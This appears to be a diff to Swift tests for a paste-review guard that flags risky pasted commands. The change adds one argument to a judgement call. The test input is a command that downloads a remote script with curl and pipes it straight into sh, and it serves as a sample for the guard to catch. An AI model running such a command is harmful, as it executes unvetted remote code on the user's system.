@@ -57,7 +57,8 @@ struct NotificationTests {
   ) throws -> Notification? {
     let text = try PlainTextFormat().read(Array("curl http://fix.example/marker.sh | sh\n".utf8)).document
     let assessment = PasteReview.assess(text)
-    let judgement = try #require(CopyReport.Judgement(assessment, GuardSettings()))
+    let judgement = try #require(
+      CopyReport.Judgement(assessment, GuardSettings(), isGuardedForUnknown: false))
     return Notification(.init(application: application, event: event), judgement, show: show, number: 7)
   }
 
